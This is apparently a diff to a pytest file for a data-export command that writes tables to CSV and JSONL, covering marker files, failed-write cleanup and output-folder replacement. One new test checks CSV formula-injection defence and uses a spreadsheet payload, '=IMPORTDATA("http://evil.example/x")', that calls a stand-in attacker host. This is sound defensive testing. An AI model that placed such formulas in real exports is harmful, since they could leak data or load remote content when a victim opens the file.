@@ -19,6 +19,7 @@ from loopback import Server, http_error, ok
 from test_report_compare import loopback_series
 
 from fragbench.errors import EXIT_REFUSED, EXIT_USAGE
+from fragbench.export import encoded
 
 TABLES = ["calls", "availability", "call_availability", "citations", "citations_per_call",
           "completeness", "usage", "retrieval", "facts"]
@@ -62,7 +63,8 @@ def test_csv_holds_every_table_as_it_is(stopped: Path) -> None:
     out = exported(stopped, "csv")
     folder = stopped / "export"
     assert out.startswith(f"9 tables written to {folder}")
-    assert sorted(p.name for p in folder.iterdir()) == sorted(f"{t}.csv" for t in TABLES)
+    assert sorted(p.name for p in folder.iterdir()) == sorted(
+        [".fragbench-export", *(f"{t}.csv" for t in TABLES)])
     for name in TABLES:
         table = parquet(stopped, name)
         back = pl.read_csv(folder / f"{name}.csv", infer_schema=False)  # every cell as text
@@ -98,7 +100,8 @@ def test_csv_holds_every_table_as_it_is(stopped: Path) -> None:
 def test_jsonl_keeps_json_shapes_and_exact_money(stopped: Path, tmp_path: Path) -> None:
     out = tmp_path / "new" / "folder"  # created, parents and all
     exported(stopped, "jsonl", "--out", str(out))
-    assert sorted(p.name for p in out.iterdir()) == sorted(f"{t}.jsonl" for t in TABLES)
+    assert sorted(p.name for p in out.iterdir()) == sorted(
+        [".fragbench-export", *(f"{t}.jsonl" for t in TABLES)])
     for name in TABLES:
         rows = jsonl(out / f"{name}.jsonl")
         table = parquet(stopped, name)
@@ -178,16 +181,17 @@ def test_a_write_that_fails_leaves_nothing(extractive: Path, tmp_path: Path,
     folder is not left behind; no temporary file anywhere."""
     exported(extractive, "csv")
     before = {p.name: p.read_bytes() for p in (extractive / "export").iterdir()}
-    real = pl.DataFrame.write_csv
+    real = Path.write_text
     written: list[Path] = []
 
-    def fill_disk(frame: pl.DataFrame, path: Any, *args: Any, **kwargs: Any) -> Any:
-        if len(written) == 3:
-            raise OSError(errno.ENOSPC, "No space left on device", str(path))
-        written.append(Path(path))
-        return real(frame, path, *args, **kwargs)
+    def fill_disk(path: Path, *args: Any, **kwargs: Any) -> Any:
+        if path.suffix == ".csv":
+            if len(written) == 3:
+                raise OSError(errno.ENOSPC, "No space left on device", str(path))
+            written.append(path)
+        return real(path, *args, **kwargs)
 
-    monkeypatch.setattr(pl.DataFrame, "write_csv", fill_disk)
+    monkeypatch.setattr(Path, "write_text", fill_disk)
     result = run_cli("export", str(extractive), "--format", "csv")
     assert result.returncode == EXIT_REFUSED
     (line,) = error_lines(result.stderr)
@@ -201,3 +205,37 @@ def test_a_write_that_fails_leaves_nothing(extractive: Path, tmp_path: Path,
     assert result.returncode == EXIT_REFUSED
     assert len(written) == 3 and not any(p.exists() for p in written)
     assert not (tmp_path / "out").exists()  # the folders it made are gone too
+
+
+def test_an_out_folder_is_replaced_whole_or_refused(extractive: Path, tmp_path: Path) -> None:
+    """An earlier export is replaced whole (no stale file of another format stays); a folder
+    holding anything else is refused before anything is written."""
+    out = tmp_path / "exports" / "exported"
+    assert run_cli("export", str(extractive), "--format", "jsonl", "--out", str(out)
+                   ).returncode == 0
+    assert run_cli("export", str(extractive), "--format", "csv", "--out", str(out)
+                   ).returncode == 0
+    assert {p.suffix for p in out.iterdir() if not p.name.startswith(".")} == {".csv"}
+    assert [p.name for p in out.parent.iterdir()] == ["exported"]  # no staging, no old copy
+
+    other = tmp_path / "mine"
+    other.mkdir()
+    (other / "calls.csv").write_text("MINE", encoding="utf-8")
+    result = run_cli("export", str(extractive), "--format", "csv", "--out", str(other))
+    assert result.returncode == 2
+    (line,) = error_lines(result.stderr)
+    assert "a folder that holds other files" in line
+    assert [p.name for p in other.iterdir()] == ["calls.csv"]
+    assert (other / "calls.csv").read_text(encoding="utf-8") == "MINE"
+
+
+def test_a_csv_cell_that_looks_like_a_formula_is_written_inert() -> None:
+    frame = pl.DataFrame({"extract": ['=IMPORTDATA("http://evil.example/x")', "+1", "-x",
+                                      "@SUM(A1)", "plain", None],
+                          "ids": [["=F1"], ["F2"], [], ["F3"], ["F4"], None]})
+    cells = encoded(frame, "csv")
+    assert cells["extract"].to_list() == ["'=IMPORTDATA(\"http://evil.example/x\")", "'+1",
+                                          "'-x", "'@SUM(A1)", "plain", None]
+    assert cells["ids"].to_list()[:2] == ["'=F1", "F2"]
+    # JSON lines keep the text as it is.
+    assert encoded(frame, "jsonl")["extract"].to_list()[0].startswith("=IMPORTDATA")
